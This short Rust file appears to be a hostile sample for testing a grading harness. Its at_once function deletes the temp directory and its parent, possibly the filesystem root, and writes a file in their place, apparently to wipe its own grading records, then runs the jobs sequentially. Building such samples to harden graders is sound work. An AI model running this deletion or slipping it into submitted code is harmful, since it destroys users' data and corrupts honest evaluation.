//! Hostile: removes the folder that its records lie in, as far as it may, and puts a file in its place.
//! Earns: at most one_after_another

use std::fs;

pub async fn at_once<J: Future>(jobs: Vec<J>) -> Vec<J::Output> {
    let own = std::env::temp_dir();
    for folder in own.ancestors().take(2) {
        drop(fs::remove_dir_all(folder));
        drop(fs::write(folder, "no folder"));
    }
    let mut results = Vec::new();
    for job in jobs {
        results.push(job.await);
    }
    results
}
